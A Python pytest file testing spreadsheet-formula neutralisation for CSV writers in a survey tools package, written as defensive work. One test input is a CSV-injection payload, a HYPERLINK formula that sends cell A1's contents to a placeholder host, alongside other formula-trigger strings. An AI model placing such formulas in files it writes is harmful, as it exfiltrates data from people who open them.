"""Spreadsheet-formula neutralisation shared by every CSV writer."""

from __future__ import annotations

import pytest

from survey_tools.csvcells import from_spreadsheet_safe, needs_quote, spreadsheet_safe


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
)
def test_formula_like_cells_are_quoted_and_read_back(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe == "'" + cell
    assert from_spreadsheet_safe(safe) == cell


@pytest.mark.parametrize("cell", ["-1", "+0.5", "1e5", "-3.25e-2", "Plain title", "", "'quoted"])
def test_values_and_plain_text_are_unchanged(cell: str) -> None:
    assert not needs_quote(cell)
    assert spreadsheet_safe(cell) == cell
    assert from_spreadsheet_safe(cell) == cell
